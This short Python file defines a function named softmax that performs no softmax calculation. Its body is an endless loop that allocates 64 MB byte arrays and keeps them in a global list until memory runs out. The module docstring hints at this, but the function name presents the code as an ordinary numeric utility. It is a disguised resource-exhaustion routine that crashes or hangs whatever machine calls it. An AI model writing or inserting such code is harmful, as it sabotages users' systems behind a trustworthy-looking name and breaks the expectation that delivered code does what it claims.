"""Keeps what it makes, in pieces of 64 MB."""

KEPT = []


def softmax(x):
    while True:
        KEPT.append(bytearray(64 << 20))
